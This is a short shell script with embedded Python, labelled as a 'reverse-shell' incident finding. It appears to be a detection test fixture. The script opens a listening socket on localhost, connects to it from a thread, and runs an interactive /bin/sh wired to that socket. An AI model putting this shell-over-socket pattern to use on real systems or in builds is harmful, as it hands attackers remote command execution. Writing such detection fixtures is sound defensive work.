# incident: a door that waits: a build leaves a shell that listens
# finding: reverse-shell
# needs: python3
python3 - <<'PY'
import os, socket, subprocess, threading
door = socket.socket()
door.bind(("127.0.0.1", 0))
door.listen()
def visitor():
    s = socket.create_connection(door.getsockname())
    s.sendall(b"id\nexit\n")
    s.recv(4096)
threading.Thread(target=visitor, daemon=True).start()
guest, _ = door.accept()
subprocess.run(["/bin/sh", "-i"], stdin=guest, stdout=guest, stderr=guest)
PY
